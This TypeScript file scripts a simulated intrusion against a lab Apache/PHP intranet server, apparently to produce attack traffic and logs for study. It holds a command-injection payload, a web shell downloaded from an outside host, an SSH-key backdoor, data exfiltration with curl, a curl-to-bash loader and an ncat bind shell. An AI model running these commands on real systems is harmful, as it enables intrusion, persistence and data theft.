import { intrude, pause, probe, visit } from './requests';
import type { IntrusionStage, IntrusionAct } from './intrusion_stage';

const SITE = 'http://10.20.0.12';
const named = (command: string): IntrusionAct =>
  intrude('--data-urlencode', `name=x.tgz;${command};#`, `${SITE}/export.php`);
/** As the clients of such shells send it: markers around what the command prints. */
const evaluated = (command: string): IntrusionAct =>
  intrude(
    '--data-urlencode',
    `c=system('echo 7f3a1c;${command.replaceAll("'", "\\'")};echo c09b2e');`,
    `${SITE}/img/.c.php`
  );

/** By hand, through the same shell. */
const typed = (command: string): IntrusionAct =>
  intrude('--data-urlencode', `c=system('${command}');`, `${SITE}/img/.c.php`);

/** The intranet, found from the first server: an export that hands its name to the shell, Apache with PHP in it. */
export const web02: IntrusionStage = {
  hostName: 'web-02-apache',
  setUp: `
    for address in 10.20.0.11 10.20.0.12 10.20.0.31; do ip address add $address/32 dev lo; done
    ip route replace local 203.0.113.66 dev lo table local proto kernel scope host src 10.20.0.12
    mkdir -p /var/www/intranet/data /var/log/apache2 /run/apache2 /var/www/intranet/img
    /usr/bin/convert -size 300x100 xc:teal /var/www/intranet/data/logo.png
    seq 200 > /var/www/intranet/data/staff.csv
    chown -R www-data:www-data /var/www
    cat > /etc/apache2/intranet.conf <<'CONF'
ServerName intranet
ServerRoot /etc/apache2
PidFile /run/apache2/apache2.pid
LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so
LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
LoadModule dir_module /usr/lib/apache2/modules/mod_dir.so
LoadModule mime_module /usr/lib/apache2/modules/mod_mime.so
LoadModule php_module /usr/lib/apache2/modules/libphp8.2.so
TypesConfig /etc/mime.types
User www-data
Group www-data
StartServers 3
MinSpareServers 2
MaxSpareServers 3
Timeout 600
Listen 10.20.0.12:80
DocumentRoot /var/www/intranet
DirectoryIndex index.php
ErrorLog /var/log/apache2/error.log
LogFormat "%h %l %u %t \\"%r\\" %>s %O \\"%{Referer}i\\" \\"%{User-Agent}i\\"" combined
CustomLog /var/log/apache2/access.log combined
<FilesMatch "\\.php$">
  SetHandler application/x-httpd-php
</FilesMatch>
CONF`,
  start: ['apache2 -f /etc/apache2/intranet.conf', 'cron'],
  readyUrl: `${SITE}/`,
  accessLog: '/var/log/apache2/access.log',
  acts: [
    visit(`${SITE}/`, '10.20.0.31'),
    visit(`${SITE}/avatar.php`, '10.20.0.31'),
    visit(`${SITE}/export.php?name=monday`, '10.20.0.31'),
    pause(3),
    probe(`${SITE}/phpinfo.php`),
    probe(`${SITE}/config.inc.php.bak`),
    pause(3),
    named('id'),
    pause(4),
    named('wget -q http://203.0.113.66/c.php -O /var/www/intranet/img/.c.php'),
    pause(4),
    ...['whoami', 'id', 'hostname', 'pwd'].flatMap((command) => [typed(command), pause(2)]),
    evaluated('pwd;whoami;uname -n'),
    pause(4),
    evaluated('cat /var/www/intranet/config.inc.php'),
    pause(3),
    visit(`${SITE}/avatar.php`, '10.20.0.31'),
    evaluated('cat /etc/passwd|cut -d: -f1,7'),
    pause(4),
    evaluated(
      'mkdir -p /var/www/.ssh && wget -q -O - http://203.0.113.66/k.pub >> /var/www/.ssh/authorized_keys && chmod 600 /var/www/.ssh/authorized_keys'
    ),
    pause(4),
    evaluated(
      'tar -czf /tmp/.d.tgz -C /var/www/intranet data && curl -s -F f=@/tmp/.d.tgz http://203.0.113.66:8000/up'
    ),
    pause(3),
    visit(`${SITE}/`, '10.20.0.31'),
    evaluated('curl -s http://203.0.113.66/ldr.sh | bash'),
    pause(4),
    evaluated('ncat -l -k -p 31337 -e /bin/sh'),
    pause(3),
    { kind: 'tables' },
    pause(2),
    visit(`${SITE}/export.php?name=tuesday`, '10.20.0.31'),
    visit(`${SITE}/avatar.php`, '10.20.0.31'),
    pause(2),
  ],
};
